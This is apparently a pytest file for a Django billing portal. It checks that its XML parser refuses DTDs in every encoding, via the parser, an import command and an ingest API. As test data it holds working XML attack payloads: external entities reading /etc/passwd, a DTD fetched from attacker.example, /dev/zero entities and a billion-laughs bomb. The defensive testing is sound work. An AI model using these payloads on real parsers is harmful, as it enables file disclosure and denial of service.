"""Hostile XML: a DTD is refused by the parser itself in every encoding, quickly, with one message that quotes nothing."""

import json
import os
import subprocess
import sys
import time
from io import StringIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from hypothesis import given, settings
from hypothesis import strategies as st

from amiportal.audit.models import AuditEntry
from billing.formats import safe_xml
from billing.formats.espi_read import EspiFormatError, parse_espi
from billing.formats.safe_xml import DOCTYPE_REFUSED
from billing.models import IntervalReading
from tests.conftest import signed_in
from tests.factories import MeterFactory, PremiseFactory

pytestmark = pytest.mark.django_db

ROOT = '<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title></feed>'
LAUGHS = (
    '<!DOCTYPE feed [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "' + f"&lol{i - 1 if i > 1 else ''};" * 10 + '">' for i in range(1, 10))
    + ']><feed xmlns="http://www.w3.org/2005/Atom"><title>&lol9;</title></feed>'
)
# Each would read a local file, spin on an endless device or expand exponentially if the parser processed its DTD.
DOCTYPES = {
    "external DTD naming a local file": f'<!DOCTYPE feed SYSTEM "/etc/passwd">{ROOT}',
    "external DTD on /dev/zero": f'<!DOCTYPE feed SYSTEM "/dev/zero">{ROOT}',
    "external entity on file:///etc/passwd": (
        '<!DOCTYPE feed [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>&secret;</title></feed>'
    ),
    "network DTD": f'<!DOCTYPE feed PUBLIC "-//x//y" "http://attacker.example/evil.dtd">{ROOT}',
    "billion laughs": LAUGHS,
}
# A parameter entity on /dev/zero spun the old parser forever: checked in a child process with a time limit below.
DEV_ZERO_ENTITY = f'<!DOCTYPE feed [<!ENTITY % zero SYSTEM "/dev/zero"> %zero;]>{ROOT}'
# (codec, name in the XML declaration, byte-order mark)
ENCODINGS = {
    "UTF-16LE": ("utf-16-le", "UTF-16", "\ufeff"),
    "UTF-16BE": ("utf-16-be", "UTF-16", "\ufeff"),
    "UTF-16LE, no BOM": ("utf-16-le", "UTF-16LE", ""),
    "UTF-32": ("utf-32-le", "UTF-32", "\ufeff"),
    "UTF-32BE": ("utf-32-be", "UTF-32", "\ufeff"),
    "UTF-8 with BOM": ("utf-8", "UTF-8", "\ufeff"),
    "UTF-8": ("utf-8", "UTF-8", ""),
}
CASES = [pytest.param(encoding, body, id=f"{encoding}: {body}") for encoding in ENCODINGS for body in DOCTYPES]
LEAKS = ("passwd", "/etc", "zero", "attacker", "secret", "lol", "external subset")


def encoded(text: str, encoding: str) -> bytes:
    codec, declared, bom = ENCODINGS[encoding]
    return (bom + f'<?xml version="1.0" encoding="{declared}"?>\n' + text).encode(codec)


def _assert_clean(message: str) -> None:
    assert message == DOCTYPE_REFUSED
    assert not any(leak in message for leak in LEAKS)


@pytest.mark.objective("SO-U2")
@pytest.mark.parametrize("encoding, body", CASES)
def test_a_doctype_in_any_encoding_is_refused_quickly_with_one_message(encoding, body):
    began = time.monotonic()
    with pytest.raises(EspiFormatError) as refused:
        parse_espi(encoded(DOCTYPES[body], encoding))
    assert time.monotonic() - began < 1
    _assert_clean(str(refused.value))


def test_the_same_files_without_a_doctype_still_parse_in_every_encoding():
    for encoding in ENCODINGS:
        assert parse_espi(encoded(ROOT, encoding)) == []


@pytest.mark.objective("SO-U2")
@pytest.mark.parametrize("encoding", ["UTF-16LE", "UTF-32", "UTF-8 with BOM"])
def test_the_parser_itself_refuses_a_dtd_even_without_the_prolog_check(monkeypatch, encoding):
    """Defence in depth: with the DOCTYPE pre-pass switched off, no file is read and the DTD is still refused.

    (libxml2's own amplification limit stops the billion laughs first there, so that one reads as malformed.)
    """
    monkeypatch.setattr(safe_xml, "_declares_doctype", lambda data: False)
    for name, body in DOCTYPES.items():
        began = time.monotonic()
        with pytest.raises((safe_xml.UnsafeXmlError, safe_xml.MalformedXmlError)) as refused:
            safe_xml.parse_untrusted_xml(encoded(body, encoding))
        assert time.monotonic() - began < 1
        assert not any(leak in str(refused.value) for leak in LEAKS)
        if name != "billion laughs":
            assert str(refused.value) == DOCTYPE_REFUSED


@pytest.mark.objective("SO-U2")
def test_an_entity_on_dev_zero_is_refused_quickly_in_every_encoding():
    """In a child process with a time limit, so the old parser's endless read fails the test instead of hanging it."""
    script = (
        "import sys, django; django.setup()\n"
        "from billing.formats.espi_read import EspiFormatError, parse_espi\n"
        "for path in sys.argv[1:]:\n"
        "    try:\n"
        "        parse_espi(open(path, 'rb').read())\n"
        "        print('parsed')\n"
        "    except EspiFormatError as error:\n"
        "        print(error)\n"
    )
    paths = []
    for encoding in ENCODINGS:
        path = f"{os.environ.get('TMPDIR', '/tmp')}/dev-zero-{os.getpid()}-{len(paths)}.xml"
        with open(path, "wb") as handle:
            handle.write(encoded(DEV_ZERO_ENTITY, encoding))
        paths.append(path)
    environment = {**os.environ, "PYTHONPATH": os.getcwd(), "DJANGO_SETTINGS_MODULE": "amiportal.settings"}
    try:
        result = subprocess.run([sys.executable, "-c", script, *paths], capture_output=True, text=True, timeout=30, env=environment)
    finally:
        for path in paths:
            os.unlink(path)
    assert result.returncode == 0, result.stderr[-2000:]
    assert result.stdout.splitlines() == [DOCTYPE_REFUSED] * len(ENCODINGS)


@pytest.fixture
def premise():
    premise = PremiseFactory(service_point_id="SP-XML1")
    MeterFactory(premise=premise, serial_number="E-XML1")
    return premise


@pytest.mark.objective("SO-U2")
@pytest.mark.parametrize("encoding", ["UTF-16LE", "UTF-16BE", "UTF-32", "UTF-8 with BOM"])
def test_the_import_command_refuses_them_with_the_same_message(premise, tmp_path, encoding):
    paths = []
    for index, body in enumerate(DOCTYPES.values()):
        path = tmp_path / f"hostile-{index}.xml"
        path.write_bytes(encoded(body, encoding))
        paths.append(str(path))
    out = StringIO()
    with pytest.raises(CommandError):
        call_command("import_greenbutton", *paths, premise="SP-XML1", stdout=out)
    assert out.getvalue().splitlines() == [f"{path}: refused: {DOCTYPE_REFUSED}" for path in paths]
    assert not IntervalReading.objects.exists()


@pytest.mark.objective("SO-U2")
@pytest.mark.parametrize("encoding", ["UTF-16LE", "UTF-16BE", "UTF-32", "UTF-8 with BOM"])
def test_the_ingest_api_refuses_them_with_the_same_message_and_an_audit_entry(olga, premise, encoding):
    client = signed_in(olga)
    for index, body in enumerate(DOCTYPES.values()):
        upload = SimpleUploadedFile(f"hostile-{index}.xml", encoded(body, encoding), content_type="application/xml")
        response = client.post("/api/billing/ingest/", {"file": upload, "format": "espi", "meter": "E-XML1"})
        assert response.status_code == 400
        assert response.json() == {"status": "rejected", "error": DOCTYPE_REFUSED}
    refused = AuditEntry.objects.filter(action="billing.ingest_refused", actor_id=olga.pk)
    assert refused.count() == len(DOCTYPES)
    assert {json.loads(entry.payload)["reason"] for entry in refused} == {DOCTYPE_REFUSED}
    assert not IntervalReading.objects.exists()


def test_syntax_errors_give_a_position_and_quote_nothing_from_the_file():
    with pytest.raises(EspiFormatError) as broken:
        parse_espi(b'<feed xmlns="http://www.w3.org/2005/Atom"><secret-tag-name></feed>')
    assert str(broken.value) == "not well-formed XML (line 1, column 67)"
    with pytest.raises(EspiFormatError) as wrong_root:
        parse_espi(b"<private-root-name/>")
    assert "private-root-name" not in str(wrong_root.value)


_PIECES = st.sampled_from(
    ['<?xml version="1.0"?>', "<!DOCTYPE feed>", "<!DOCTYPE feed [", '<!ENTITY a "b">', "<feed>", "</feed>", "&a;", "<!--c-->", "]>"]
)


@settings(max_examples=200, deadline=None)
@given(
    text=st.lists(st.one_of(_PIECES, st.text(max_size=20)), max_size=12).map("".join),
    codec=st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1"]),
)
def test_any_document_gives_a_tree_or_one_of_the_two_documented_errors(text, codec):
    try:
        data = text.encode(codec)
    except UnicodeEncodeError:
        return
    try:
        root = safe_xml.parse_untrusted_xml(data)
    except (safe_xml.UnsafeXmlError, safe_xml.MalformedXmlError) as error:
        assert str(error) == DOCTYPE_REFUSED or str(error).startswith("not well-formed XML (line ")
    else:
        assert root.getroottree().docinfo.doctype == ""
